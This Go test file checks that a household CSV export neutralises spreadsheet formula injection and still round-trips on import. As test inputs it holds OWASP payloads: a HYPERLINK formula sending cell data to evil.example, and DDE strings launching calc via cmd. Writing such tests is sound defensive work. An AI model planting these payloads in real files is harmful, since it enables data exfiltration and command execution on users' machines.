package importfile

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVExportCarriesNoFormula: the OWASP payloads typed into a household's free
// text come out of the CSV export as text a spreadsheet does not run, and the export
// still imports back unchanged (issue 10, item 5). Negative numbers stay numbers
// (TestNeutralise); no column of ours holds one today (incomes cannot be negative).
func TestCSVExportCarriesNoFormula(t *testing.T) {
	var tpl bytes.Buffer
	if err := WriteTemplateCSV(&tpl); err != nil {
		t.Fatal(err)
	}
	h := readAllHouseholds(t, tpl.Bytes(), "mau.csv")[0]
	h.Address = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
	h.VillageName = "@SUM(1+1)*cmd|' /C calc'!A0"
	h.Members[1].Name = "=cmd|' /C calc'!A0"
	h.Members[2].Ethnicity = "-2+3+cmd|' /C calc'!A0"
	h.Phone = "+84912345678"
	var b bytes.Buffer
	w, err := NewCSVWriter(&b)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(h); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Fatalf("cell %q would run as a formula", c)
			}
		}
	}
	got := readAllHouseholds(t, b.Bytes(), "xuat.csv")
	if len(got) != 1 || got[0].Address != h.Address || got[0].VillageName != h.VillageName || got[0].Members[1].Name != h.Members[1].Name ||
		got[0].Phone != h.Phone || got[0].Members[2].Ethnicity != h.Members[2].Ethnicity {
		t.Fatalf("round trip differs:\n got %+v\nwant %+v", got[0], h)
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"":                     "",
		"Nguyễn Văn An":        "Nguyễn Văn An",
		"=1+1":                 "'=1+1",
		"@SUM(A1)":             "'@SUM(A1)",
		"\tx":                  "'\tx",
		"\rx":                  "'\rx",
		"+84912345678":         "'+84912345678",
		"''=x":                 "'''=x",
		"'x":                   "'x",
		"+84 912 345 678":      "'+84 912 345 678",
		"-1500000":             "-1500000",
		"-45,5":                "-45,5",
		"-":                    "'-",
		"-1,":                  "'-1,",
		"030080001234":         "030080001234",
		"'=already apostrophe": "''=already apostrophe",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
		if got := unneutralise(Neutralise(in)); got != in {
			t.Errorf("unneutralise(Neutralise(%q)) = %q", in, got)
		}
	}
}
